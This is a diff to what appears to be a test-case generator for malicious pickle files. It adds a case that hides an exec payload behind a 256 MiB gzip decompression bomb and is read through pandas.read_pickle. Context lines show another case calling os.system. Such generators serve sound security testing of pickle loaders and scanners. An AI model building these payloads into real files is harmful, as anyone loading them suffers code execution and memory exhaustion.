@@ -130,6 +130,12 @@ def _class_b(md):
     a.raw(b"]" * 100000 + b"a" * 99999)
     a.call("os", "system", _cmd(mk(n))).raw(b"a")
     C.append(Case(n, "B15", a.stop()))
+    n = "b15_decompression_bomb_then_payload"
+    import gzip
+    inner = (b"\x80\x04\x8e" + struct.pack("<Q", 256 << 20) + bytes(256 << 20) + b"0"
+             + Asm(2).call("builtins", "exec", _code(mk(n))).stop()[2:])
+    C.append(Case(n, "B15", gzip.compress(inner, 1), loader="pandas_gzip",
+                  note="256 MiB of zeros in a gzip file read by pandas.read_pickle"))
     return C
 
 
@@ -424,6 +430,7 @@ LOADERS = {
     "joblib": "joblib.load(path)",
     "numpy": "numpy.load(path, allow_pickle=True)",
     "pandas": "pandas.read_pickle(path)",
+    "pandas_gzip": "pandas.read_pickle(path, compression='gzip')",
 }
 
 
@@ -433,8 +440,8 @@ def loader_script(items, loaders=None):
     lines = ["import pickle, sys, os, signal", "signal.alarm(120)"]
     mods = set()
     for _, ld in items:
-        if ld in ("torch", "joblib", "numpy", "pandas"):
-            mods.add(ld)
+        if ld.split("_")[0] in ("torch", "joblib", "numpy", "pandas"):
+            mods.add(ld.split("_")[0])
     for m in sorted(mods):
         lines.append("import %s" % m)
     for path, ld in items:
